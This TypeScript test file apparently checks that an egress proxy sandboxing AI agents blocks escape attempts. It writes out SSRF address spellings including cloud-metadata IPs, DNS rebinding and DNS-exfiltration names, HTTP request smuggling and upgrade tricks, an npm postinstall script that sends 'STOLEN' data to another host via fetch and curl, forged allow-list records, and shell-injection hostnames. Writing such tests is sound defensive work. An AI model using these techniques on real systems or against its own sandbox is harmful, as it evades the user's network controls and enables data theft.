/** Attacks by the proxy that every command has, with the engine's network taken away: nothing but allowed places. */
import { readFileSync } from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { Place, buildTimeoutMs } from '../engine/place';
import { Cai, newWorkspace, ownFile } from '../engine/support';
import { attempt, reachedIf } from './attempt';
import { Outside } from './outside';

/** What the attacker may talk to, as `site.example`, which does what it can to help. */
const site = Outside.of((request) => {
  const url = /^\S+ (\S+)/.exec(request)?.[1] ?? '';
  const moved = /\/moved\/(.*)$/.exec(url)?.[1];
  if (moved !== undefined) return `HTTP/1.1 307 Go\r\nLocation: ${moved}\r\nContent-Length: 0\r\n\r\n`;
  if (url === '/strange') return 'HTTP/1.1 000 a\x01b\r\n\r\n';
  return 'HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nALLOW';
});
/** What he may not. */
const outside = Outside.of();

const cai = new Cai();
const lookedUp = join(cai.home, 'looked-up');
let place: Place;

/** Answers look-ups of `cai`: names of the tests, the second time differently. */
const resolver = `const { appendFileSync } = require('node:fs');
const { promises } = require('node:dns');
const real = promises.lookup;
const times = new Map();
promises.lookup = async (name, options) => {
  if (!name.endsWith('.test')) return await real(name, options);
  appendFileSync(${JSON.stringify(lookedUp)}, name + '\\n');
  const time = (times.get(name) ?? 0) + 1;
  times.set(name, time);
  const inner = [{ address: '127.0.0.1', family: 4 }, { address: '169.254.169.254', family: 4 }];
  if (name.startsWith('inner')) return inner;
  return time > 1 ? inner : [{ address: '2001:4860:ffff::1', family: 6 }];
};
require('node:module').syncBuiltinESMExports();
`;

beforeAll(async () => {
  const hook = join(cai.home, 'resolver.cjs');
  ownFile(hook, resolver);
  ownFile(lookedUp, '');
  cai.configure(`allow = ["site.example:${site.port}", "inner.test:*", "second.test:*"]
[container]
extra_hosts = ["site.example:127.0.0.1", "other.example:127.0.0.1"]
`);
  cai.env.NODE_OPTIONS = `--require ${hook}`;
  place = await new Place(cai).opened();
}, buildTimeoutMs);

/** What got to where it may not, by a script that follows; `from` has the same cai. */
async function stolenBy(script: string, from = place): Promise<string | undefined> {
  const shared = `site, other, P = 'site.example:${site.port}', 'other.example:%d' % port, port
def connects(to): return 'CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (to, to)
def get(to, headers='', path='/STOLEN'): return 'GET http://%s%s HTTP/1.1\\r\\nHost: %s\\r\\n%sConnection: close\\r\\n\\r\\n' % (to, path, to, headers)
def control(data=None):
    heard = say(data or get(site))
    if 'ALLOW' not in heard: raise SystemExit('what is allowed is not reached: ' + heard)
def refused(data, to):
    heard = say(data)
    if heard.split(' ')[1:2] not in (['403'], ['400']): print('REACHED', to, heard)
`;
  const { heard, ended } = await outside.heardOf(from, shared + script);
  if (ended.status !== 0) throw new Error(`the attack ended with ${ended.status}: ${ended.stderr}`);
  const said = heard + ended.stdout.toString();
  return reachedIf(/STOLEN|REACHED|HTTP/.test(said), said);
}

const inner = `names = ['127.0.0.1', '127.1', '2130706433', '0x7f000001', '0x7f.1', '0177.0.0.1', '017700000001', '0', '0.0.0.0', 'localhost', 'LOCALHOST.', 'a.localhost', '[::1]', '[::]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[64:ff9b::7f00:1]', '${hostname()}', '%31%32%37.0.0.1', '\\uff11\\uff12\\uff17.0.0.1'.encode().decode('latin1')]`;

describe('an agent, by the proxy of its command,', () => {
  attempt('an agent reaches a host that is not allowed', () =>
    stolenBy(`control()
control(connects(site) + get(site))
refused(connects(other), other); refused(get(other), other)
for name in ('OTHER.example', 'other.example.', 'other.example..', 'other%2eexample', 'site.example.other.example'):
    refused(connects('%s:%d' % (name, P)) + 'STOLEN', name); refused(get('%s:%d' % (name, P)), name)`),
  );

  attempt('an agent reaches another port of an allowed host', () =>
    stolenBy(`for p in (P, 22, 80, 443, 0, 65536, -1, '', '0x50', '${site.port}:%d' % P, '${site.port}@other.example:%d' % P):
    refused(connects('site.example:%s' % p), p); refused(get('site.example:%s' % p), p)`),
  );

  attempt('an agent reaches the user’s machine by any spelling of its addresses', () =>
    stolenBy(`${inner}
for name in names + ['[%s]' % a if ':' in a else a for a in addresses]:
    refused(connects('%s:%d' % (name, P)) + 'STOLEN', name); refused(get('%s:%d' % (name, P)), name)`),
  );

  attempt('an agent reaches the metadata service of a cloud by any spelling of its address', () =>
    stolenBy(`for name in ('169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '169.254.43518', '[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]', '[64:ff9b::a9fe:a9fe]', '[2002:a9fe:a9fe::]', '[fd00:ec2::254]', 'metadata.google.internal', '100.100.100.200', '168.63.129.16', '192.0.0.192', 'inner.test'):
    refused(connects(name + ':80'), name); refused(get(name), name)`),
  );

  attempt('an agent reaches the user’s machine by an allowed name that leads there', async () => {
    const reached = await stolenBy(
      `refused(connects('inner.test:%d' % P) + 'STOLEN', 'inner'); refused(get('inner.test:%d' % P), 'inner')`,
    );
    if (!readFileSync(lookedUp, 'utf8').includes('inner.test')) throw new Error('nothing was looked up');
    return reached;
  });

  attempt(
    'an agent reaches the user’s machine by an allowed name that leads there the second time',
    async () => {
      const before = readFileSync(lookedUp, 'utf8').length;
      const reached = await stolenBy(
        `print(len([say(connects('second.test:%d' % P) + 'GET /STOLEN HTTP/1.1\\r\\n\\r\\n') for _ in range(2)] + [say(get('second.test:%d' % P))]))`,
      );
      // Once for each, or what was judged need not be what was dialled.
      const times = readFileSync(lookedUp, 'utf8').slice(before).split('second.test').length - 1;
      return reached ?? reachedIf(times !== 3, `${times} look-ups for 3 connections`);
    },
  );

  attempt('an agent sends data in names that cai looks up', async () => {
    await stolenBy(`for name in ('stolen-data.evil.test', 'STOLEN.DATA.TEST', 'a.inner.test', 'stolen.second.test'):
    refused(connects(name + ':443'), name); refused(get(name), name)`);
    const names = readFileSync(lookedUp, 'utf8');
    return reachedIf(/stolen|^a\./im.test(names), names);
  });

  attempt('an agent is led to another host by the answer of an allowed one', () =>
    stolenBy(`control()
for to in ('http://' + other, 'http://127.0.0.1:%d' % P, '//' + other, 'gopher://' + other, 'file:///etc/passwd'):
    subprocess.run(['curl', '-sSL', '-m', '5', '-d', 'STOLEN', 'http://%s/moved/%s/' % (site, to)], capture_output=True)
    heard = say(get(site, path='/moved/%s/' % to))
    if ' 307 ' not in heard: raise SystemExit('it is not led: ' + heard)`),
  );

  attempt('an agent names another host in headers of a request to an allowed one', () =>
    stolenBy(`for headers in ('Host: %s\\r\\n', 'X-Forwarded-Host: %s\\r\\n', 'Forwarded: host=%s\\r\\n', 'X-Original-URL: http://%s/\\r\\n', 'Proxy-Connection: keep-alive\\r\\nX: %s\\r\\n', 'Alt-Svc: h2="%s"\\r\\n'):
    say(get(site, headers % other))
    say('GET http://%s/ HTTP/1.1\\r\\n%sConnection: close\\r\\n\\r\\n' % (site, headers % other))
for line in ('GET / HTTP/1.1\\r\\nHost: ' + other, 'GET %s HTTP/1.1\\r\\nHost: %s' % (other, site), 'GET http://%s HTTP/1.0' % other, 'GET http:/%s/ HTTP/1.1\\r\\nHost: %s' % (other, site), 'GET //%s/ HTTP/1.1\\r\\nHost: %s' % (other, site), 'CONNECT %s HTTP/1.1\\r\\nHost: %s' % (other, site), 'OPTIONS * HTTP/1.1\\r\\nHost: ' + other):
    refused(line + '\\r\\nConnection: close\\r\\n\\r\\n', line)`),
  );

  attempt('an agent hides another host in the address of a request', () =>
    stolenBy(`for each in ('%s@%s', '%s:80@%s', '%s\\\\@%s', '%s#@%s', '%s?@%s', '%s/@%s', '%s%%00.%s', '%s%%20%s', '%s %s', '%s\\t%s', '%s,%s', '%s;%s'):
    for host in (each % (site, other), each % (other, site), each % ('site.example', other)):
        say(connects(host) + 'STOLEN'); say(get(host, path='/'))`),
  );

  attempt('an agent smuggles a request for another host in one for an allowed host', () =>
    stolenBy(`inner = get(other); chunk = '%x\\r\\n%s\\r\\n0\\r\\n\\r\\n' % (len(inner), inner); many = 'a:b\\r\\n' * 2100
for method in ('GET', 'POST', 'DELETE', 'HEAD', 'OPTIONS', 'PUT'):
    for headers, body in (('Content-Length: %d\\r\\n' % len(inner), inner), ('Transfer-Encoding: chunked\\r\\n', chunk), ('Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n', chunk), ('Transfer-Encoding : chunked\\r\\n', chunk), ('Transfer-Encoding: x\\r\\n chunked\\r\\n', chunk), ('Connection: content-length\\r\\nContent-Length: %d\\r\\n' % len(inner), inner), (many + 'Content-Length: %d\\r\\n' % len(inner), inner), ('X: 1\\r\\n Y: 2\\r\\n', inner), ('X: \\r' + inner, ''), ('', inner)):
        say('%s http://%s/ HTTP/1.1\\r\\nHost: x\\r\\n%sConnection: close\\r\\n\\r\\n%s' % (method, site, headers, body))
for path in ('/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' + inner, '/%0d%0aHost:%20' + other, '/\\n' + inner): say(get(site, path=path))`),
  );

  attempt('an agent asks for another host on a connection that led to an allowed one', () =>
    stolenBy(`keep = lambda to: get(to).replace('Connection: close', 'Connection: keep-alive')
say(keep(site) + get(other)); say(keep(site) + connects(other) + 'STOLEN')
s = socket.create_connection(proxy, 3); s.settimeout(5)
s.sendall(keep(site).encode()); first = s.recv(65536)
if b'200' not in first: raise SystemExit(first)
s.sendall(get(other).encode())
try: s.recv(65536)
except OSError: pass
say(connects(site) + connects(other) + get(other)); say(connects(other) + connects(site) + get(other))`),
  );

  attempt('an agent reaches another host by an upgrade of the connection', () =>
    stolenBy(`for kind in ('websocket', 'h2c', 'TLS/1.0', 'connect'):
    up = 'Connection: Upgrade\\r\\nUpgrade: %s\\r\\nSec-WebSocket-Key: STOLEN\\r\\nSec-WebSocket-Version: 13\\r\\n' % kind
    for scheme in ('http', 'ws'):
        refused('GET %s://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n%s\\r\\n' % (scheme, other, site, up), kind)
        say('GET %s://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n%s\\r\\n%s' % (scheme, site, other, up, get(other)))
subprocess.run(['node', '-e', 'new WebSocket(process.argv[1]).onerror = () => process.exit()', 'ws://%s/STOLEN' % other], capture_output=True, timeout=20)`),
  );

  attempt('an agent pushes to another host with git', () =>
    stolenBy(`os.chdir('/tmp')
for url in ('http://%s/STOLEN', 'https://%s/STOLEN', 'ssh://git@%s/STOLEN', 'git://%s/STOLEN', 'ftp://%s/STOLEN'):
    for env in ({}, {'GIT_SSH_COMMAND': 'ssh -o ProxyCommand=none -o BatchMode=yes'}, {'http_proxy': '', 'https_proxy': '', 'HTTPS_PROXY': ''}):
        done = subprocess.run(['git', 'ls-remote', url % other], capture_output=True, timeout=30, env={**os.environ, **env, 'GIT_TERMINAL_PROMPT': '0'})
        if done.returncode == 0: print('REACHED', url)`),
  );

  attempt('a script of a package sends data elsewhere while npm installs it', () =>
    stolenBy(`os.makedirs('/tmp/package', exist_ok=True); os.chdir('/tmp/package')
send = "require('fs').writeFileSync('ran', ''); const post = () => fetch('http://%s/', { method: 'POST', body: 'STOLEN' }); post().catch(() => { for (const name of ['http_proxy', 'HTTP_PROXY']) delete process.env[name]; return post() }).catch(() => 0)" % other
open('send.js', 'w').write(send)
json.dump({'name': 'evil', 'version': '1.0.0', 'scripts': {'postinstall': 'node send.js; curl -sS -m 5 -d STOLEN http://%s/ || true' % other}}, open('package.json', 'w'))
subprocess.run(['npm', 'install', '--offline'], capture_output=True, timeout=100)
if not os.path.exists('ran'): raise SystemExit('the script did not run')`),
  );

  attempt('a repository allows hosts by its own configuration', async () => {
    const workspace = newWorkspace();
    const file = join(workspace, '.containai/config.toml');
    ownFile(file, `[network]\negress = "open"\nallow = ["other.example:*", "127.0.0.0/8:*"]\n[container]\nextra_hosts = ["site.example:127.0.0.2"]\n`); // prettier-ignore
    const own = await new Place(cai, workspace).opened();
    return await stolenBy(`control()
refused(connects(other), other); refused(get('127.0.0.1:%d' % P), 'address')
for each in addresses: say('STOLEN', (each, port))`, own); // prettier-ignore
  });

  attempt('an agent writes down what the user is to have decided', async () => {
    const reached = await stolenBy(`import hashlib
record = {'version': 1, 'root': '${place.workspace}', 'allow': ['*:*', '0.0.0.0/0:*'], 'deny': []}
name = hashlib.sha256(record['root'].encode()).hexdigest() + '.json'
for folder in ('${cai.home}/state/containai/network', os.path.expanduser('~/.local/state/containai/network'), '${place.workspace}/.containai/network', '/run/cai/network'):
    try:
        os.makedirs(folder, exist_ok=True)
        json.dump(record, open(os.path.join(folder, name), 'w'))
    except OSError as error: print(error)
for command in (['cai', 'network', 'allow', '*:*'], ['containai', 'network', 'allow', '*:*']):
    try: subprocess.run(command)
    except OSError: pass`);
    return (
      reached ??
      (await stolenBy(`refused(connects(other), other); refused(get('127.0.0.1:%d' % P), 'address')`))
    );
  });

  attempt('an agent has the user run something with the name of a host', async () => {
    const { stderr } = await place.cai.run([...place.args(['python3', '-c', `import os, socket
s = socket.create_connection(('127.0.0.1', int(os.environ['https_proxy'].rsplit(':', 1)[1])))
for name in ('$(touch$IFS/tmp/x).example', 'a;b.example', '\`b\`.example', "a'b.example", 'a&b', '\\x1b[31m.example', '--help', '-a.example'):
    s = socket.create_connection(('127.0.0.1', int(os.environ['https_proxy'].rsplit(':', 1)[1])))
    s.sendall(('CONNECT %s:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' % name).encode()); s.recv(1000)`])].filter((each) => each !== '--quiet')); // prettier-ignore
    return reachedIf(stderr.includes('cai network allow'), stderr);
  });

  attempt('a server ends an agent by an answer that is none', async () => {
    const reached = await stolenBy(`heard = say(get(site, path='/strange')); control()
if ' 502 ' not in heard: print('REACHED', heard)`);
    return reached;
  });
});
